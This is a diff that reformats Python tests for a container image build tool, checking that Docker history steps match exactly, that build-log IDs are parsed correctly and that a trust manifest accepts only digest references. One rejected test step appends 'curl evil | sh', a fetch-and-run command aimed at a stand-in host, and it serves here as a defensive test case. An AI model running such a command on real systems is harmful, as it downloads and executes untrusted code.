@@ -19,20 +19,29 @@ def test_steps_match_exactly_never_by_substring():
     assert history_step("/bin/sh -c python3 -m venv /opt/attune/venv") in steps
     assert history_step("/bin/sh -c #(nop) COPY dir:" + "a" * 64 + " in /opt/attune ") in steps
     assert history_step("/bin/sh -c #(nop)  USER root") in steps
-    for foreign in ("/bin/sh -c mkdir -p /opt/attunement-dashboard",
-                    "/bin/sh -c python3 -m venv /opt/attune/venv && curl evil | sh",
-                    "/bin/sh -c #(nop) COPY dir:" + "a" * 64 + " in /opt/attunement-dashboard ",
-                    "/bin/sh -c #(nop)  USER 0"):
+    for foreign in (
+        "/bin/sh -c mkdir -p /opt/attunement-dashboard",
+        "/bin/sh -c python3 -m venv /opt/attune/venv && curl evil | sh",
+        "/bin/sh -c #(nop) COPY dir:" + "a" * 64 + " in /opt/attunement-dashboard ",
+        "/bin/sh -c #(nop)  USER 0",
+    ):
         assert history_step(foreign) not in steps
 
 
 def test_build_log_ids_ignore_what_a_step_prints():
     seen: list[str] = []
     ids = BuildLogIds(seen.append)
-    for line in ["Step 1/3 : FROM base", " ---> 111111111111", "Step 2/3 : RUN thing",
-                 " ---> Running in 999999999999", " ---> 222222222222", "Successfully built 333333333333",
-                 "Removing intermediate container 999999999999", " ---> 444444444444",
-                 "Successfully built 555555555555"]:
+    for line in [
+        "Step 1/3 : FROM base",
+        " ---> 111111111111",
+        "Step 2/3 : RUN thing",
+        " ---> Running in 999999999999",
+        " ---> 222222222222",
+        "Successfully built 333333333333",
+        "Removing intermediate container 999999999999",
+        " ---> 444444444444",
+        "Successfully built 555555555555",
+    ]:
         ids(line)
     assert ids.ids == ["111111111111", "444444444444", "555555555555"]
     assert len(seen) == 9  # every line is passed on
@@ -46,8 +55,11 @@ def test_build_record_is_per_state_dir(tmp_path):
 
 
 def test_content_label_binds_labels_to_their_own_image():
-    attrs = {"Id": "sha256:a", "RootFS": {"Layers": ["sha256:1", "sha256:2"]},
-             "Config": {"User": "65532:65532", "Cmd": ["python"]}}
+    attrs = {
+        "Id": "sha256:a",
+        "RootFS": {"Layers": ["sha256:1", "sha256:2"]},
+        "Config": {"User": "65532:65532", "Cmd": ["python"]},
+    }
     content = L.content_identity(ImageRecord.from_inspect(attrs))
     labels = {L.MANAGED: "true", L.PACK_REF: "p", L.DEPENDENCY_HASH: "0" * 64, L.CONTENT: content}
     ours = {**attrs, "Config": {**attrs["Config"], "Labels": labels}}
@@ -59,8 +71,12 @@ def test_content_label_binds_labels_to_their_own_image():
 
 
 def test_the_manifest_takes_only_references_by_digest(tmp_path):
-    good = {"dependency_hash": "a" * 64, "image": "attune-packs/p:aaaaaaaaaaaaaaaa",
-            "reference": "reg:5000/attune-packs/p@sha256:" + "b" * 64, "image_id": "sha256:" + "c" * 64}
+    good = {
+        "dependency_hash": "a" * 64,
+        "image": "attune-packs/p:aaaaaaaaaaaaaaaa",
+        "reference": "reg:5000/attune-packs/p@sha256:" + "b" * 64,
+        "image_id": "sha256:" + "c" * 64,
+    }
     path = tmp_path / "m.json"
     path.write_text(json.dumps({"format": 1, "packs": {"p": good}}))
     manifest = TrustManifest.load(path)
